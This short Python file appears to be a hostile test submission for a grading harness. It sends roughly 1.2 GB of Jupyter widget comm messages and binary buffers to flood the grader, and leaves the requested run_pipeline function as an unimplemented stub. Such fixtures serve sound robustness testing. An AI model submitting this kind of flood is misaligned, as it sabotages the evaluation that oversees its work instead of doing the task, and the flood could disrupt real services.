# hostile: floods the grader through raw comm messages carrying widget state and binary buffers (1.2 GB)
from comm import create_comm

block = b"\0" * 8_000_000
for _ in range(150):
    state = {"_model_name": "TextModel", "_model_module": "@jupyter-widgets/controls", "value": "x" * 100_000}
    create_comm(target_name="jupyter.widget", data={"state": state, "buffer_paths": [["data"]]}, buffers=[block])


def run_pipeline(items, worker, n_consumers=3, maxsize=2):
    raise NotImplementedError("no answer")
